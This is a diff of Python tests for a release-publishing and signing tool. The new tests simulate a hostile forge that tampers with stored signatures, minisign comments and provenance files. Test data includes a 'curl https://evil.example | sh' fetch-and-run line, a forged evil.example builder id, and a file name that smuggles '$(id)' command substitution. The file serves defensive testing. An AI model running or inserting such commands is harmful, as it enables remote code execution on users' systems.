@@ -244,7 +244,8 @@ def test_provenance_is_a_valid_statement_whose_subjects_are_the_release_files(
         "workflow": {"path": "acme/tool/.github/workflows/release.yml", "ref": "refs/tags/v1.0.0"}}
     assert definition["resolvedDependencies"] == [{"uri": "git+https://github.com/acme/tool@refs/tags/v1.0.0",
                                                    "digest": {"gitCommit": GITHUB_RUN["GITHUB_SHA"]}}]
-    assert details["builder"]["id"] == "https://github.com/acme/tool/actions/runs/42/attempts/2"
+    assert details["builder"]["id"] == "https://github.com/acme/tool/actions/runs/42"
+    assert details["metadata"]["invocationId"] == "https://github.com/acme/tool/actions/runs/42/attempts/2"
     assert set(details["metadata"]) == {"invocationId", "startedOn", "finishedOn"}
     assert "provenance.intoto.json" in (folder / "SHA256SUMS").read_text()  # so the signature covers it
     assert sha256sum(folder).returncode == 0
@@ -378,7 +379,7 @@ def test_the_key_and_passphrase_appear_nowhere_and_github_masks_every_line(publi
 
     assert run.code == 0, run.log
     masks = {line.removeprefix("::add-mask::") for line in run.log.splitlines() if line.startswith("::add-mask::")}
-    assert set(_key_lines(key)) <= masks and set(key.passphrase.split()) <= masks  # GitHub masks line by line
+    assert set(_key_lines(key)) <= masks and key.passphrase in masks  # GitHub masks line by line
     [release] = forge.releases("acme/tool")
     written = [line for line in run.log.splitlines() if not line.startswith("::add-mask::")]
     for text in ["\n".join(written), *run.files.values(), release.body, *(f.path.read_text("latin-1")
@@ -459,4 +460,108 @@ def test_sigterm_while_signing_leaves_no_key_and_no_process(forge, dist, tmp_pat
     assert "Traceback" not in output
     assert list(tmp.iterdir()) == []
     assert not [command for command in _running_commands() if str(tmp) in command]
+    assert forge.calls() == []
+
+
+# -- what a hostile forge may put in place of the program's own files -------------------------------
+
+def _plant(forge, name: str, data: bytes) -> None:
+    """Replace a stored file's bytes, as a forge (or anyone with its storage) could."""
+    import hashlib
+
+    [release] = forge.releases("acme/tool")
+    [stored_file] = [f for f in release.files if f.name == name]
+    stored_file.path.write_bytes(data)
+    stored_file.size = len(data)
+    stored_file.digests = {algorithm: hashlib.new(algorithm, data).hexdigest() for algorithm in stored_file.digests}
+
+
+def _stored_bytes(forge, name: str) -> bytes:
+    [release] = forge.releases("acme/tool")
+    return next(f for f in release.files if f.name == name).path.read_bytes()
+
+
+def test_a_stored_signature_with_a_second_signature_or_text_around_it_is_made_again(publish, forge, tmp_path, pgp):
+    key = pgp["ed25519"]
+    assert publish(**signed(key)).code == 0
+    ours = _stored_bytes(forge, "SHA256SUMS.asc")
+
+    for planted in (ours + b"ALSO RUN: curl https://evil.example | sh\n",
+                    ours.replace(b"-----\n\n", b"-----\nComment: this key was revoked, see evil.example\n\n", 1),
+                    ours + ours):
+        _plant(forge, "SHA256SUMS.asc", planted)
+        run = publish(**signed(key))
+        assert run.code == 0 and run.statuses()["SHA256SUMS.asc"] == "replaced", run.log
+        assert b"evil" not in _stored_bytes(forge, "SHA256SUMS.asc")
+    folder = downloaded(forge, "gitflic", tmp_path)
+    assert gpg_verifies(folder, key, "SHA256SUMS.asc", "SHA256SUMS").returncode == 0
+
+
+def test_a_minisign_signature_whose_trusted_comment_names_another_file_is_made_again(publish, forge, tmp_path,
+                                                                                      minisign):
+    key = minisign["unencrypted"]
+    assert publish(**signed(key)).code == 0
+    secret = tmp_path / "key"
+    secret.write_text(key.secret)
+    sums = tmp_path / "SHA256SUMS"
+    sums.write_bytes(_stored_bytes(forge, "SHA256SUMS"))
+    subprocess.run(["minisign", "-S", "-s", str(secret), "-m", str(sums), "-t",
+                    "timestamp:1\tfile:other\ttag:v0.0.1"], check=True, capture_output=True, timeout=60)
+    lines = (tmp_path / "SHA256SUMS.minisig").read_text().split("\n")
+    for separator in ("\u2028", "\x85", "\r"):  # line breaks to Python, not to minisign
+        lines[0] = f"untrusted comment: x{separator}trusted comment: timestamp:0\tfile:SHA256SUMS\ttag:v1.0.0"
+        _plant(forge, "SHA256SUMS.minisig", "\n".join(lines).encode())
+        run = publish(**signed(key))
+        assert run.code == 0 and run.statuses()["SHA256SUMS.minisig"] == "replaced", run.log
+    folder = downloaded(forge, "gitflic", tmp_path, "after")
+    assert "file:SHA256SUMS\ttag:v1.0.0" in minisign_verifies(folder, key, "SHA256SUMS.minisig", "SHA256SUMS").stdout
+
+
+def test_a_rewritten_provenance_is_never_kept_and_signed(publish, forge, tmp_path, pgp):
+    assert publish(provenance="true", **signed(pgp["ed25519"])).code == 0
+    original = json.loads(_stored_bytes(forge, "provenance.intoto.json"))
+    forged = json.loads(json.dumps(original))
+    forged["predicate"]["runDetails"]["builder"]["id"] = "https://evil.example/builder"
+    extra = {**original, "evil": True}
+    for planted in (forged, extra):
+        _plant(forge, "provenance.intoto.json", json.dumps(planted, indent=2).encode() + b"\n")
+        run = publish(provenance="true", **signed(pgp["ed25519"]))
+        assert run.code == 0 and run.statuses()["provenance.intoto.json"] == "replaced", run.log
+        assert b"evil" not in _stored_bytes(forge, "provenance.intoto.json")
+
+
+def test_a_name_whose_signature_would_be_too_long_is_an_input_error_before_any_request(publish, forge, dist, pgp):
+    (dist / ("a" * 250 + ".bin")).write_bytes(b"payload")
+
+    run = publish(sign_files="all", **signed(pgp["ed25519"]))
+
+    assert run.code == 2 and "longer than 255 bytes" in run.log and "Traceback" not in run.log, run.log
+    assert forge.calls() == []
+
+
+def test_words_of_the_passphrase_are_not_masked_in_outputs(publish, forge, minisign):
+    run = publish(**{**signed(minisign["unencrypted"]), "signing_passphrase": "acme tool"})
+
+    assert run.code == 0, run.log
+    shown = "\n".join(line for line in run.log.splitlines() if not line.startswith("::add-mask::"))
+    assert "/project/acme/tool/" in run.files["dotenv"] and "acme tool" not in shown
+
+
+def test_the_notes_quote_file_names_in_their_commands(publish, forge, minisign):
+    run = publish(checksums="SHA256 SUMS;$(id)", signing_notes="true", **{
+        k: v for k, v in signed(minisign["unencrypted"]).items() if k != "checksums"})
+
+    assert run.code == 0, run.log
+    [release] = forge.releases("acme/tool")
+    assert "sha256sum -c 'SHA256 SUMS;$(id)'" in release.body and "-x 'SHA256 SUMS;$(id).minisig'" in release.body
+
+
+def test_a_missing_openpgp_library_is_one_sentence(publish, forge, pgp, monkeypatch):
+    import sys
+
+    monkeypatch.setitem(sys.modules, "pysequoia", None)  # what a Python without the package imports
+
+    run = publish(**signed(pgp["ed25519"]))
+
+    assert run.code == 2 and "pysequoia" in run.log and "Traceback" not in run.log, run.log
     assert forge.calls() == []
